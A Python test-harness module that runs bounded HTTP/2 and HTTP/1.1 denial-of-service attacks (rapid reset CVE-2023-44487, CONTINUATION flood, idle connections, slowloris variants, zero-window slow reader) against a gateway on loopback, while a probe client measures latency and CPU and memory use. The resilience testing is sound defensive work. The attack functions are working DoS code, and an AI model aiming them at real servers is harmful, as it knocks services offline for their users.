"""HTTP/2 abuse against a cityhall gateway (or the edge in front of it), each attack bounded in count and time.

Used by tests/abuse/test_h2_abuse.py (the CI short form) and tests/abuse/abuse.py (the full table); run with
Debian's /usr/bin/python3 (python3-h2, python3-hyperframe). Loopback only. Attackers connect from 127.0.0.2 and
up, the probe from 127.0.0.1, so that per-address limits can tell them apart.

    Target(port, tls=False)             where to attack: the gateway's cleartext port (h2c prior knowledge and
                                        HTTP/1.1) or a TLS port (ALPN h2 / http/1.1)
    rapid_reset(t, streams, seconds)    HEADERS + RST_STREAM pairs (CVE-2023-44487), reconnecting when closed
    continuation_flood(t, frames, seconds, conns, size)
                                        a HEADERS without END_HEADERS, then CONTINUATION frames that never end it
    idle_connections(t, count, seconds, per_ip, preface)
                                        many connections that send nothing (or only the HTTP/2 preface)
    slow_headers(t, conns, seconds)     HTTP/1.1 slowloris: one header line a second, never the blank line
    slow_body(t, conns, seconds)        HTTP/2 slowloris: a POST whose body trickles in a byte a second
    slow_reader(t, conns, seconds, streams)
                                        asks for responses with a zero flow-control window and never reads
    Probe(target).start() / .stop()     a legitimate client in its own process: GET /v1/system/ping in a loop
    Sampler(pid)                        CPU seconds (utime + stime) and RSS of a process, peak RSS sampled
    measure(attack, target, probe_target, pids, **kw)
                                        runs one attack with the probe and the samplers; returns a dict

Every attack returns a dict of what it saw: frames or connections sent, and when and how the server ended
each connection ("closed_after" lists seconds from connect to the server's close or reset).
"""

import multiprocessing
import os
import select
import socket
import ssl
import threading
import time

from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)
import h2.config
import h2.connection
import h2.events

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_RST_STREAM, FRAME_GOAWAY, FRAME_HEADERS = 0x3, 0x7, 0x1
ERROR_CANCEL = 0x8


class Target:
    """A listener to attack: 127.0.0.1:port, cleartext (h2c prior knowledge / HTTP/1.1) or TLS."""

    def __init__(self, port, tls=False, host="127.0.0.1"):
        self.host, self.port, self.tls = host, port, tls

    def __repr__(self):
        return f"{'https' if self.tls else 'http'}://{self.host}:{self.port}"

    def connect(self, src="127.0.0.2", alpn="h2", timeout=3.0, rcvbuf=None):
        """A connected socket (TLS-wrapped for a TLS target, with ALPN `alpn`), bound to source address src."""
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(timeout)
        try:
            s.bind((src, 0))
            s.connect((self.host, self.port))
            if self.tls:
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
                ctx.set_alpn_protocols([alpn])
                s = ctx.wrap_socket(s, server_hostname="localhost")
        except BaseException:
            s.close()
            raise
        return s

    @property
    def scheme(self):
        return "https" if self.tls else "http"


def source_address(i):
    """The i-th attacker address: 127.0.0.2, 127.0.0.3, ... (127.0.0.1 is the probe's)."""
    return f"127.0.{(i + 2) // 250}.{(i + 2) % 250 or 250}" if i + 2 >= 250 else f"127.0.0.{i + 2}"


def frame(f):
    return f.serialize()


def request_block(target, path, method="GET"):
    """An HPACK header block that uses only the static table, so it can be sent any number of times."""
    def literal(index, value):  # literal header field without indexing, indexed name (RFC 7541 6.2.2)
        value = value.encode()
        return bytes([index]) + bytes([len(value)]) + value
    m = {"GET": b"\x82", "POST": b"\x83"}[method]
    return (m + (b"\x87" if target.tls else b"\x86") + literal(4, path) + literal(1, f"localhost:{target.port}") +
            (b"\x0f\x10\x10application/json" if method == "POST" else b""))  # content-type: static index 31


def h2_open(target, src, settings=None, rcvbuf=None):
    """An HTTP/2 connection that has sent the preface and its SETTINGS."""
    s = target.connect(src=src, rcvbuf=rcvbuf)
    sf = SettingsFrame(0)
    sf.settings = settings or {}
    s.sendall(PREFACE + frame(sf))
    return s


class FrameReader:
    """What the server sent on one connection, read by whoever sends on it (an SSL socket must not be read and
    written by two threads): GOAWAY, RST_STREAM and response HEADERS counts, and when the connection ended."""

    def __init__(self, sock, t0):
        self.sock, self.t0 = sock, t0
        self.goaway = self.resets = self.responses = 0
        self.closed_at = self.first_reset_at = None
        self.buf = b""

    def drain(self, wait=0.0):
        """Reads whatever has arrived (waiting up to `wait` seconds for the first bytes)."""
        deadline = time.monotonic() + wait
        while self.closed_at is None:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            left = max(0.0, deadline - time.monotonic())
            if not pending and not select.select([self.sock], [], [], left)[0]:
                return
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.closed_at = time.monotonic() - self.t0
                return
            self._parse(data)
            deadline = time.monotonic()  # after the first read only take what is already there

    def _parse(self, data):
        buf = self.buf + data
        while len(buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            if f.type == FRAME_GOAWAY:
                self.goaway += 1
            elif f.type == FRAME_RST_STREAM:
                self.resets += 1
                if self.first_reset_at is None:
                    self.first_reset_at = time.monotonic() - self.t0
            elif f.type == FRAME_HEADERS:
                self.responses += 1
            buf = buf[9 + length:]
        self.buf = buf


def _send(sock, data):
    try:
        sock.sendall(data)
        return True
    except (OSError, ssl.SSLError):
        return False


def _run_workers(worker, conns, seconds):
    """Runs worker(k) for k in range(conns) on threads and waits for them (each bounded by the attack's seconds)."""
    threads = [threading.Thread(target=worker, args=(k,), daemon=True) for k in range(conns)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(seconds + 5)


def rapid_reset(target, streams=20000, seconds=5.0, path="/v1/system/ping", batch=100, conns=1):
    """CVE-2023-44487: HEADERS (END_STREAM) immediately followed by RST_STREAM(CANCEL), in batches, without
    waiting for anything; a connection the server ends is replaced. Stops after `streams` or `seconds`."""
    block = request_block(target, path)
    out = {"sent": 0, "connections": 0, "goaways": 0, "responses": 0, "refused_connects": 0}
    deadline = time.monotonic() + seconds
    lock = threading.Lock()

    def worker(k):
        sid = 1
        sock = reader = None
        while time.monotonic() < deadline:
            with lock:
                if out["sent"] >= streams:
                    break
            if sock is None:
                try:
                    sock = h2_open(target, source_address(k))
                except OSError:
                    with lock:
                        out["refused_connects"] += 1
                    time.sleep(0.05)
                    continue
                reader = FrameReader(sock, time.monotonic())
                sid = 1
                with lock:
                    out["connections"] += 1
            chunk = bytearray()
            for _ in range(batch):
                h = HeadersFrame(sid, data=block, flags=("END_HEADERS", "END_STREAM"))
                chunk += h.serialize() + RstStreamFrame(sid, error_code=ERROR_CANCEL).serialize()
                sid += 2
            ok = _send(sock, chunk)
            reader.drain()
            ok = ok and reader.closed_at is None
            with lock:
                out["sent"] += batch if ok else 0
            if not ok or sid > 2 ** 31 - 2 * batch:
                with lock:
                    out["goaways"] += reader.goaway
                    out["responses"] += reader.responses
                sock.close()
                sock = None
        if sock is not None:
            reader.drain()
            sock.close()
            with lock:
                out["goaways"] += reader.goaway
                out["responses"] += reader.responses

    _run_workers(worker, conns, seconds)
    return out


def continuation_flood(target, frames=10 ** 7, seconds=5.0, conns=4, size=0):
    """HEADERS without END_HEADERS, then CONTINUATION frames of `size` bytes (0: empty, a pure CPU cost;
    otherwise junk literal headers that the server must buffer) as fast as the server takes them, never
    END_HEADERS. Records when the server ended each connection's request (RST_STREAM) or the connection."""
    out = {"sent": 0, "connections": 0, "ended_after": [], "goaways": 0}
    deadline = time.monotonic() + seconds
    lock = threading.Lock()
    entry = b"\x00\x07x-flood\x64" + b"v" * 100  # a literal header field without indexing, new name (RFC 7541 6.2.2)
    payload = entry * max(1, size // len(entry)) if size else b""
    block = request_block(target, "/v1/system/ping")

    def worker(k):
        t0 = time.monotonic()
        try:
            sock = h2_open(target, source_address(k))
            sock.sendall(HeadersFrame(1, data=block, flags=("END_STREAM",)).serialize())
        except (OSError, ssl.SSLError):
            return
        reader = FrameReader(sock, t0)
        with lock:
            out["connections"] += 1
        many = ContinuationFrame(1, data=payload).serialize() * 50
        while time.monotonic() < deadline and reader.closed_at is None:
            with lock:
                if out["sent"] >= frames:
                    break
            if not _send(sock, many):
                break
            reader.drain()
            with lock:
                out["sent"] += 50
        # the server may answer the last frames with a GOAWAY and close: wait for it within the attack's time
        while reader.closed_at is None and time.monotonic() < deadline:
            reader.drain(0.1)
        sock.close()
        ended = [e for e in (reader.first_reset_at, reader.closed_at) if e is not None]
        with lock:
            out["goaways"] += reader.goaway
            if ended:
                out["ended_after"].append(round(min(ended), 2))

    _run_workers(worker, conns, seconds)
    return out


def _watch_closes(socks, seconds, keepalive=None):
    """Waits `seconds` on `socks` [(sock, t_connect)], draining what the server sends; returns the seconds from
    connect to close of each socket the server closed. keepalive(sock) is called every second on open ones."""
    open_ = {s.fileno(): (s, t) for s, t in socks}
    closed = []
    deadline = time.monotonic() + seconds
    next_tick = time.monotonic() + 1
    poller = select.epoll()
    for fd in open_:
        poller.register(fd, select.EPOLLIN | select.EPOLLRDHUP)
    try:
        while open_ and time.monotonic() < deadline:
            for fd, _ev in poller.poll(0.1):
                s, t = open_.get(fd, (None, None))
                if s is None:
                    continue
                try:
                    data = s.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    continue
                except (OSError, ssl.SSLError):
                    data = b""
                if not data:
                    closed.append(round(time.monotonic() - t, 2))
                    poller.unregister(fd)
                    del open_[fd]
            if keepalive and time.monotonic() >= next_tick:
                next_tick += 1
                for fd, (s, _t) in list(open_.items()):
                    if not keepalive(s):
                        poller.unregister(fd)
                        closed.append(round(time.monotonic() - _t, 2))
                        del open_[fd]
    finally:
        poller.close()
    return closed, len(open_)


def _close_all(socks):
    for s, _ in socks:
        try:
            s.close()
        except OSError:
            pass


def idle_connections(target, count=1000, seconds=5.0, per_ip=100, preface=True):
    """Opens `count` connections, `per_ip` from each attacker address, sending nothing (preface=False) or only the
    HTTP/2 preface and SETTINGS, and holds them for `seconds`. Reports how many the server refused at once
    (closed within 0.5 s or failed to connect), closed later, and left open."""
    socks, failed = [], 0
    t_start = time.monotonic()
    for i in range(count):
        if time.monotonic() - t_start > seconds:
            break
        try:
            s = target.connect(src=source_address(i // per_ip), timeout=2)
            if preface:
                sf = SettingsFrame(0)
                s.sendall(PREFACE + sf.serialize())
            s.setblocking(False)
            socks.append((s, time.monotonic()))
        except (OSError, ssl.SSLError):
            failed += 1
    remaining = max(0.5, seconds - (time.monotonic() - t_start))
    closed, still_open = _watch_closes(socks, remaining)
    _close_all(socks)
    return {"opened": len(socks), "connect_failed": failed, "refused": sum(1 for c in closed if c <= 0.5) + failed,
            "closed_later": sorted(c for c in closed if c > 0.5), "still_open": still_open}


def slow_headers(target, conns=20, seconds=6.0, interval=1.0):
    """HTTP/1.1 slowloris: a request line, then one more header line every `interval` seconds, never the empty
    line that ends the headers."""
    socks = []
    for i in range(conns):
        try:
            s = target.connect(src=source_address(i % 8), alpn="http/1.1")
            s.sendall(b"GET /v1/system/ping HTTP/1.1\r\nHost: localhost\r\n")
            s.setblocking(False)
            socks.append((s, time.monotonic()))
        except (OSError, ssl.SSLError):
            pass

    def drip(s):
        try:
            s.send(b"X-Slow: 1\r\n")
            return True
        except (ssl.SSLWantWriteError, BlockingIOError):
            return True
        except (OSError, ssl.SSLError):
            return False

    closed, still_open = _watch_closes(socks, seconds, keepalive=drip)
    _close_all(socks)
    return {"opened": len(socks), "closed_after": sorted(closed), "still_open": still_open}


def slow_body(target, conns=20, seconds=6.0, interval=1.0):
    """HTTP/2 slowloris: HEADERS of a POST without END_STREAM, then a one-byte DATA frame every `interval`
    seconds. Reports when the server reset the stream (RST_STREAM) or closed the connection."""
    block = request_block(target, "/v1/system/echo", method="POST")
    readers, socks = [], []
    for i in range(conns):
        try:
            t0 = time.monotonic()
            s = h2_open(target, source_address(i % 8))
            s.sendall(HeadersFrame(1, data=block, flags=("END_HEADERS",)).serialize())
            readers.append(FrameReader(s, t0))
            socks.append(s)
        except (OSError, ssl.SSLError):
            pass
    deadline = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < deadline:
        for s, r in zip(socks, readers):
            if r.closed_at is None and r.first_reset_at is None:
                if _send(s, DataFrame(1, data=b"{").serialize()):
                    sent += 1
        tick = time.monotonic() + interval
        while time.monotonic() < min(tick, deadline):
            for r in readers:
                r.drain()
            time.sleep(0.05)
    for s in socks:
        s.close()
    ended = [r.first_reset_at if r.first_reset_at is not None else r.closed_at for r in readers]
    return {"opened": len(socks), "bytes_sent": sent, "ended_after": sorted(round(e, 2) for e in ended if e is not None),
            "still_open": sum(1 for e in ended if e is None)}


def slow_reader(target, conns=10, seconds=6.0, streams=50, path="/v1/system/info"):
    """Asks for `streams` responses per connection with SETTINGS_INITIAL_WINDOW_SIZE = 0, then never sends or
    reads again: the server can send the response headers but no body. The end of a connection is read from
    the kernel's TCP state, without reading the socket."""
    block = request_block(target, path)
    socks = []
    for i in range(conns):
        try:
            s = h2_open(target, source_address(i % 8), settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
            chunk = b"".join(HeadersFrame(sid, data=block, flags=("END_HEADERS", "END_STREAM")).serialize()
                             for sid in range(1, 2 * streams, 2))
            s.sendall(chunk)
            s.setblocking(False)
            socks.append((s, time.monotonic()))
        except (OSError, ssl.SSLError):
            pass
    # Not reading at all is the attack; peek once a second for the end (EOF or reset) without consuming data.
    deadline = time.monotonic() + seconds
    ended = {}
    while time.monotonic() < deadline and len(ended) < len(socks):
        for s, t in socks:
            if s.fileno() in ended:
                continue
            try:
                state = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
            except OSError:
                state = 7
            if state in (7, 8):  # TCP_CLOSE, TCP_CLOSE_WAIT: the server closed or reset it
                ended[s.fileno()] = round(time.monotonic() - t, 2)
        time.sleep(0.25)
    _close_all(socks)
    return {"opened": len(socks), "ended_after": sorted(ended.values()), "still_open": len(socks) - len(ended)}


# --------------------------------------------------------------------------- measuring

def _probe_main(host, port, tls, interval, conn, reconnect_every, timeout):
    """The probe process: GET /v1/system/ping one at a time over HTTP/2 (a fresh connection every
    `reconnect_every` requests, as new clients arrive), until the parent writes to the pipe."""
    target = Target(port, tls, host)
    lat, errors, kinds = [], 0, {}
    sock = h2c = None
    n = 0
    while not conn.poll(0):
        t0 = time.monotonic()
        try:
            if sock is None or n % reconnect_every == 0:
                if sock is not None:
                    sock.close()
                sock = target.connect(src="127.0.0.1", timeout=timeout)
                h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                h2c.initiate_connection()
                sock.sendall(h2c.data_to_send())
            n += 1
            sid = h2c.get_next_available_stream_id()
            h2c.send_headers(sid, [(":method", "GET"), (":scheme", target.scheme), (":path", "/v1/system/ping"),
                                   (":authority", f"localhost:{port}")], end_stream=True)
            sock.sendall(h2c.data_to_send())
            status, done = None, False
            sock.settimeout(timeout)
            while not done:
                if time.monotonic() - t0 > timeout:
                    raise TimeoutError("probe timeout")
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("closed by server")
                for ev in h2c.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                        status = dict(ev.headers).get(b":status")
                    elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                        done = True
                    elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                        raise ConnectionError("stream reset")
                    elif isinstance(ev, h2.events.DataReceived):
                        h2c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, h2.events.ConnectionTerminated):
                        if ev.last_stream_id is None or ev.last_stream_id < sid:
                            raise ConnectionError("GOAWAY")
                pending = h2c.data_to_send()
                if pending:
                    sock.sendall(pending)
            if status != b"200":
                raise ConnectionError(f"status {status!r}")
            lat.append((time.monotonic() - t0) * 1000)
        except Exception as e:  # every failure is a data point, not a crash of the probe
            errors += 1
            kind = type(e).__name__ + (f": {e}" if str(e) else "")
            kinds[kind[:60]] = kinds.get(kind[:60], 0) + 1
            if sock is not None:
                sock.close()
            sock = None
        rest = interval - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
    if sock is not None:
        sock.close()
    conn.send({"latencies_ms": lat, "errors": errors, "error_kinds": kinds})


class Probe:
    """A legitimate client in its own process (so the attacker's threads do not slow it down)."""

    def __init__(self, target, interval=0.02, reconnect_every=25, timeout=2.0):
        self.args = (target.host, target.port, target.tls, interval, reconnect_every, timeout)
        self.proc = self.parent = None

    def start(self):
        ctx = multiprocessing.get_context("fork")
        self.parent, child = ctx.Pipe()
        host, port, tls, interval, reconnect_every, timeout = self.args
        self.proc = ctx.Process(target=_probe_main, args=(host, port, tls, interval, child, reconnect_every, timeout),
                                daemon=True)
        self.proc.start()
        return self

    def stop(self):
        """Stops the probe; returns {n, errors, error_kinds, p50_ms, p99_ms, max_ms}."""
        self.parent.send("stop")
        res = self.parent.recv() if self.parent.poll(self.args[5] + 5) else None
        self.proc.join(5)
        if self.proc.is_alive():
            self.proc.kill()
            self.proc.join(2)
        if res is None:
            return {"n": 0, "errors": 1, "error_kinds": {"probe hung": 1}, "p50_ms": None, "p99_ms": None,
                    "max_ms": None}
        lat = sorted(res["latencies_ms"])

        def pct(p):
            return round(lat[min(len(lat) - 1, int(p * len(lat)))], 1) if lat else None
        return {"n": len(lat) + res["errors"], "errors": res["errors"], "error_kinds": res["error_kinds"],
                "p50_ms": pct(0.5), "p99_ms": pct(0.99), "max_ms": round(lat[-1], 1) if lat else None}


CLK_TCK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    """utime + stime of pid (all its threads), in seconds."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


class Sampler(threading.Thread):
    """CPU seconds and RSS of one process over an interval; RSS is sampled every 50 ms for the peak."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.stop_flag = False
        self.cpu0 = cpu_seconds(pid)
        self.rss0 = self.peak = rss_mb(pid)
        self.t0 = time.monotonic()

    def run(self):
        while not self.stop_flag:
            try:
                self.peak = max(self.peak, rss_mb(self.pid))
            except OSError:
                return
            time.sleep(0.05)

    def finish(self):
        self.stop_flag = True
        self.join(1)
        wall = time.monotonic() - self.t0
        try:
            cpu, rss = cpu_seconds(self.pid) - self.cpu0, rss_mb(self.pid)
        except OSError:
            return {"alive": False}
        return {"alive": True, "cpu_s": round(cpu, 2), "cpu_share": round(cpu / wall, 2), "rss0_mb": round(self.rss0, 1),
                "rss_mb": round(rss, 1), "rss_peak_mb": round(self.peak, 1), "wall_s": round(wall, 1)}


def measure(attack, target, probe_target, pids, **kw):
    """Runs attack(target, **kw) with a probe against probe_target and samplers on pids {name: pid}; returns
    {"attack": what the attack saw, "probe": probe figures, name: sampler figures...}. attack None: a baseline
    of kw["seconds"] with the probe alone."""
    samplers = {name: Sampler(pid) for name, pid in pids.items() if pid}
    for s in samplers.values():
        s.start()
    probe = Probe(probe_target).start()
    time.sleep(0.2)
    if attack is None:
        time.sleep(kw.get("seconds", 2))
        seen = {}
    else:
        seen = attack(target, **kw)
    time.sleep(0.2)
    out = {"attack": seen, "probe": probe.stop()}
    for name, s in samplers.items():
        out[name] = s.finish()
    return out


class Edge:
    """HAProxy started by ops/haproxy/run in front of a harness.Gateway: TLS on a free port, h2c to the
    gateway's cleartext listener. env: EDGE_* overrides of haproxy.cfg's defaults. Stopped by PID."""

    def __init__(self, gateway, env=None):
        import harness
        self.port = harness.free_port()
        cert, key = harness.tls_cert()
        self.env = dict(os.environ, CITYHALL_TLS_CERT=cert, CITYHALL_TLS_KEY=key, EDGE_BIND=f"127.0.0.1:{self.port}",
                        EDGE_GATEWAY=f"127.0.0.1:{gateway.http_port}", **(env or {}))
        self.logpath = os.path.join(gateway.tmpdir, f"edge-{self.port}.log")
        self.proc = None

    def start(self, timeout=15):
        import subprocess
        import harness
        log = open(self.logpath, "ab")
        try:
            self.proc = subprocess.Popen([os.path.join(harness.ROOT, "ops", "haproxy", "run")], env=self.env,
                                         stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True)
        finally:
            log.close()

        def up():
            if self.proc.poll() is not None:
                raise RuntimeError(f"ops/haproxy/run exited with {self.proc.returncode}: {self.log_text()[-2000:]}")
            return harness.curl(f"https://127.0.0.1:{self.port}/v1/system/ping", http="h2", timeout=2).status == 200
        harness.wait_for(up, timeout, 0.1, "the edge (haproxy) to answer")
        return self

    @property
    def pid(self):
        """HAProxy's own PID (the run script's child)."""
        import harness
        kids = harness._children(self.proc.pid) if self.proc else []
        return kids[0] if kids else None

    @property
    def target(self):
        return Target(self.port, tls=True)

    def log_text(self):
        try:
            with open(self.logpath, "rb") as f:
                return f.read().decode("utf-8", "replace")
        except OSError:
            return ""

    def stop(self):
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except Exception:
                self.proc.kill()
                self.proc.wait(5)
